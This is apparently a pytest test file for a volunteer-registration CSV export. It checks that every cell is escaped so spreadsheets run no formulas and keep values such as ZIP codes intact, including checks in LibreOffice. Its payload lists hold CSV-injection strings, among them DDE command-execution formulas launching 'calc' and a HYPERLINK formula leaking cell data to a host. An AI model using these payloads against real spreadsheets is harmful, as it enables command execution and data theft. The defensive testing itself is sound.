"""The spreadsheet: every cell is text, no cell runs as a formula, and no data is lost."""

import csv
import io
import os
import random
import re
import unicodedata
from dataclasses import replace
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.registrations.enums import label
from chalicelib.registrations.form import RegistrationForm
from chalicelib.registrations.registration import Registration
from chalicelib.registrations.workflow import Status
from chalicelib.staff import spreadsheet
from chalicelib.staff.spreadsheet import as_text
from tests.support.events import EVENT, FORM
from tools import libreoffice

REGISTRATION = Registration(
    user_id="01M82TAX65NYRCFAP3K5E0RG9T",
    event_id=EVENT,
    event_starts_on=date(2027, 9, 3),
    username="river",
    reference="7KQ2MX",
    status=Status.IN_REVIEW,
    version=3,
    form=FORM,
    created_at=datetime(2027, 3, 5, 8, 9, 10, tzinfo=UTC),
    updated_at=datetime(2027, 3, 6, tzinfo=UTC),
    submitted_at=datetime(2027, 3, 5, 20, 8, 33, tzinfo=UTC),
    acknowledged_at=None,
    expires_at=datetime(2028, 10, 7, tzinfo=UTC),
)


def write(registrations, time_zone="America/Chicago"):
    """What the service writes of an event in Minnesota."""
    return spreadsheet.write_csv(registrations, time_zone)


# What a spreadsheet would run, or have another program run.
RUNNING = [
    "=1+1",
    '=HYPERLINK("https://example.com?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1)",
    "-2+3",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\u22121",
    "-Jones",
]
# What would run where semicolons or line breaks begin another cell.
RUNNING_FURTHER_ON = [
    ";=1+1",
    "River;=1+1",
    "River; =1+1;+2;x",
    'River;"=1+1";x',
    "River;＝1+1",
    "River\n=1+1",
    "River\r\n@SUM(1)",
    "River\t-1",
]
# What would come out as something else: shorter, longer, as today's year or as TRUE.
READ_AS_VALUES = [
    "02134",
    "55108-1234",
    "123E45",
    "12E4",
    "012345",
    "12345678901",
    "3/4",
    "1-2",
    "12 1/2",
    "1,000",
    "5.",
    "(1)",
    "$5",
    "50%",
    "12:30",
    "5 PM",
    "5 a",
    "True",
    "FALSE",
    "#N/A",
    "June 5",
    "5 May 2027",
    "12MAR4",
    "MARCH1",
    "Sept 1",
    "Sun 5",
    "５",
    "٣",
]
READABLE = [
    "River",
    "O'Neil",
    "Smith-Jones",
    "7KQ2MX",
    "1265 Snelling Avenue",
    "5A",
    "#4",
    "Apt 4",
    "55108",
    "1234567890",
    "St. Paul",
    "May",
    "June",
    "Truett",
    "江",
    "محمد",
    "river@example.com",
    "a=b",
    "",
]


def rows_of(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def row_of(registration):
    header, row = rows_of(write([registration]))
    return dict(zip(header, row, strict=True))


def with_form(**fields):
    return replace(REGISTRATION, form=FORM | fields)


def read_back(cell):
    """What a cell stands for: one apostrophe less wherever a part begins with one."""
    return re.sub(r"(^|[;,\t\r\n])'", r"\1", cell)


def runs(text):
    """Whether text would run, as OWASP has it, blanks and marks that do not show aside."""
    for character in text:
        normalized = unicodedata.normalize("NFKC", character)
        if normalized[:1] in {"=", "+", "-", "@", "\u2212"}:
            return True
        if not (normalized.isspace() or unicodedata.category(character) in {"Cc", "Cf"}):
            return False
    return False


def test_a_registration_is_one_row_in_words():
    assert row_of(REGISTRATION) == {
        "Reference": "7KQ2MX",
        "Status": "In review",
        "First name": "River",
        "Middle name": "",
        "Last name": "Okafor",
        "Preferred name": "",
        "Pronoun": "They/them",
        "Age": "18 to 20",
        "Phone": "(952) 445-1234",
        "Second phone": "",
        "Email": "river@example.com",
        "Street address": "1265 Snelling Avenue",
        "Apartment or suite": "",
        "City": "St. Paul",
        "State": "MN",
        "ZIP code": "55108",
        "Can work all days": "No",
        "Shifts": "Day, Evening",
        "Can work before the event": "",
        "Can work after the event": "",
        "Jobs with the event": "Animals",
        "Jobs with a vendor": "",
        "Has worked before": "Yes",
        "Has worked at the event before": "",
        "Has worked for a vendor before": "",
        "Skills": "Data entry, Physical labor",
        "Username": "river",
        "Submitted (America/Chicago)": "2027-03-05 14:08",
        "Created (America/Chicago)": "2027-03-05 02:09",
        "Submitted (UTC)": "2027-03-05 20:08",
        "Created (UTC)": "2027-03-05 08:09",
        "Signed (America/Chicago)": "",
        "Signed on paper (America/Chicago)": "",
        "Paper signature recorded by": "",
    }


@pytest.mark.parametrize(
    ("time_zone", "expected"),
    [
        ("America/Chicago", "2027-08-14 23:59"),
        ("Pacific/Honolulu", "2027-08-14 18:59"),
        ("Asia/Kolkata", "2027-08-15 10:29"),
    ],
)
def test_times_are_written_by_the_clock_of_the_event_and_in_utc(time_zone, expected):
    deadline = datetime(2027, 8, 15, 4, 59, tzinfo=UTC)
    [header, row] = rows_of(write([replace(REGISTRATION, submitted_at=deadline)], time_zone))
    cells_by_column = dict(zip(header, row, strict=True))

    assert cells_by_column[f"Submitted ({time_zone})"] == expected
    assert cells_by_column["Submitted (UTC)"] == "2027-08-15 04:59"


def test_every_field_of_the_form_has_a_column_but_what_is_not_for_staff():
    titles = {details["title"] for details in RegistrationForm.details().values()}

    assert titles - row_of(REGISTRATION).keys() == {
        "Ethnicity",
        "No middle name",
        "What I say here is accurate",
    }


def test_ethnicity_is_nowhere_in_it():
    text = write([with_form(ethnicity="NativeIndigenous")])

    assert "thnicity" not in text
    assert "Native" not in text


def test_it_begins_with_a_byte_order_mark_and_ends_each_row_with_cr_lf():
    text = write([REGISTRATION, REGISTRATION])

    assert text.startswith("\ufeffReference,Status,")
    assert text.endswith("\r\n")
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == 3


def test_without_registrations_there_is_still_a_header():
    assert len(rows_of(write([]))) == 1


def test_a_draft_of_nothing_is_a_row_all_the_same():
    row = row_of(replace(REGISTRATION, form={}, submitted_at=None, status=Status.DRAFT))

    assert {column for column, cell in row.items() if cell} == {
        *("Reference", "Status", "Username", "Created (America/Chicago)", "Created (UTC)")
    }


@pytest.mark.parametrize(
    ("choice", "words"),
    [
        ("UnderSixteen", "Under 16"),
        ("TwentyonePlus", "21 or older"),
        ("customerService", "Customer service"),
        ("moneyCashier", "Money and cashier"),
        ("morning", "Morning"),
        ("SheHer", "She/her"),
        ("InReview", "In review"),
        ("XL", "XL"),
    ],
)
def test_a_choice_comes_in_words(choice, words):
    assert label(choice) == words


@pytest.mark.parametrize("number", ["012345", "=1+1", "+442079460000"])
def test_a_phone_number_of_another_kind_is_text_like_any_other(number):
    assert row_of(with_form(phone1=number))["Phone"] == f"'{number}"


@pytest.mark.parametrize("text", RUNNING)
def test_what_would_run_has_an_apostrophe_before_it(text):
    assert as_text(text).startswith("'")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (";=1+1", ";'=1+1"),
        ("River; =1+1;+2;x", "River;' =1+1;'+2;x"),
        ('River;"=1+1";x', 'River;\'"=1+1";x'),
        ("River;＝1+1", "River;'＝1+1"),
        ("River\r\n@SUM(1)", "River\r\n'@SUM(1)"),
        ("River\t-1", "River\t'-1"),
    ],
)
def test_what_would_run_further_on_has_one_there(text, cell):
    assert as_text(text) == cell


@pytest.mark.parametrize("text", READ_AS_VALUES)
def test_what_would_be_read_as_a_value_stays_text(text):
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize("text", READABLE)
def test_what_is_harmless_stays_as_it_is(text):
    assert as_text(text) == text


@pytest.mark.parametrize("text", ["'Okafor", "'=1+1", "''", "a;'b"])
def test_an_apostrophe_that_a_user_typed_is_not_lost(text):
    assert as_text(text) != text
    assert read_back(as_text(text)) == text


@pytest.mark.parametrize("field", ["lastName", "email", "aptSuite", "zipCode", "state"])
def test_every_field_is_guarded(field):
    row = row_of(with_form(**{field: "=1+1"}))

    assert list(row.values()).count("'=1+1") == 1


@pytest.mark.parametrize("attribute", ["username", "reference"])
def test_what_is_not_of_the_form_is_guarded_too(attribute):
    assert "'=1+1" in row_of(replace(REGISTRATION, **{attribute: "=1+1"})).values()


@pytest.mark.parametrize("text", ["sept" * 25 + "x", "1 " * 20_000 + "x", "a;" * 20_000])
def test_no_text_takes_it_long(text):
    # A search that looked back would not come to an end in this universe.
    assert read_back(as_text(text)) == text


NASTY = st.text(st.sampled_from("=+-@＝＋－＠\u2212;,'\"|\t\r\n \u00a0\u200b\ufeff0a19E/:.%$Jun()"))
ANYTHING = st.text(st.characters(exclude_categories=["Cs"])) | NASTY


@given(ANYTHING)
def test_every_cell_is_safe_and_says_what_was_there(text):
    cell = as_text(text)

    assert not cell.startswith(("\t", "\r"))
    assert not any(map(runs, re.split(r"[;,\t\r\n]", cell)))
    assert read_back(cell) == text


@given(st.lists(ANYTHING, min_size=1, max_size=4))
def test_any_texts_fit_into_rows_and_columns(texts):
    fields = dict(zip(("firstName", "lastName", "aptSuite", "city"), texts, strict=False))
    header, *rows = rows_of(write([with_form(**fields), REGISTRATION]))

    assert [len(row) for row in rows] == [len(header)] * 2
    cells = dict(zip(header, rows[0], strict=True))
    titles = {
        alias: details["title"] for alias, details in RegistrationForm.details_by_alias().items()
    }
    assert {name: read_back(cells[titles[name]]) for name in fields} == fields


TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


@pytest.fixture
def in_libreoffice(tmp_path):
    """Opens CSV in LibreOffice; gives the XML of all its cells that are not empty."""
    if problem := libreoffice.problem():
        if os.environ.get("EVERYTHING"):
            pytest.fail(problem)
        pytest.skip(problem)

    def open_it(text, **options):
        file = tmp_path / "registrations.csv"
        file.write_text(text, encoding="utf-8", newline="")
        saved = ElementTree.parse(libreoffice.opened(file, tmp_path, **options))  # noqa: S314
        return [
            cell for cell in saved.iter(f"{TABLE}table-cell") if cell.get(f"{OFFICE}value-type")
        ]

    return open_it


def value_type(cell):
    return cell.get(f"{OFFICE}value-type")


def is_formula(cell):
    return cell.get(f"{TABLE}formula") is not None


def words(cell):
    """A cell's text, its blanks and lines put together again."""

    def said(element):
        text = element.text or ""
        for part in element:
            if part.tag == f"{TEXT}s":
                text += " " * int(part.get(f"{TEXT}c", "1"))
            elif part.tag == f"{TEXT}tab":
                text += "\t"
            else:
                text += said(part)
            text += part.tail or ""
        return text

    return "\n".join(map(said, cell.iter(f"{TEXT}p")))


def random_texts(count):
    """Texts of what spreadsheets look for, the same each time."""
    rng = random.Random(20271123)  # noqa: S311
    parts = [
        *("=", "+", "-", "@", "'", '"', ";", ",", " ", "/", ":", ".", "%", "$", "(", ")", "|", "!"),
        *("0", "7", "12", "2027", "E", "e5", "A1", "SUM(1)", "cmd", "Jun", "March", "PM", "TRUE"),
        *("＝", "１", "\u22121", "é", "n", "River"),
    ]
    texts = ("".join(rng.choices(parts, k=rng.randint(1, 6))) for _ in range(count))
    return [text for text in texts if text == text.strip()]


# Printable, as a form lets it through; line breaks and tabs are nothing that it takes.
TYPED = [text for text in RUNNING + RUNNING_FURTHER_ON if text.isprintable()]
HOSTILE = [*TYPED, *READ_AS_VALUES, *READABLE, *random_texts(2000)]


def names(texts):
    """Registrations by the dozen, each with another last name."""
    return [with_form(lastName=text) for text in texts]


def test_libreoffice_runs_nothing_and_loses_nothing(in_libreoffice):
    text = write(names(HOSTILE))
    cells = in_libreoffice(text)

    assert [words(cell) for cell in cells if is_formula(cell)] == []
    # Moments alone are read, as the dates that they are.
    texts = [words(cell) for cell in cells if value_type(cell) != "date"]
    sent = [
        cell for row in rows_of(text) for cell in row if cell and not cell.startswith("2027-03-05")
    ]
    assert texts == sent
    assert {value_type(cell) for cell in cells} == {"string", "float", "date"}


def test_libreoffice_runs_nothing_where_semicolons_separate(in_libreoffice):
    cells = in_libreoffice(write(names(HOSTILE)), separator=";")

    assert [words(cell) for cell in cells if is_formula(cell)] == []


def test_libreoffice_would_have_run_and_read_it(in_libreoffice):
    rows = "".join(f'"{text}"\r\n' for text in ("=1+1", "02134", "3/4", "True", "O'Neil"))

    cells = in_libreoffice(f"\ufeff{rows}")

    assert [is_formula(cell) for cell in in_libreoffice("x,a;=1+1;b\r\n", separator=";")] == [
        *(False, True, False)
    ]
    assert [(value_type(cell), is_formula(cell)) for cell in cells] == [
        ("float", True),
        ("float", False),
        ("date", False),
        ("boolean", False),
        ("string", False),
    ]
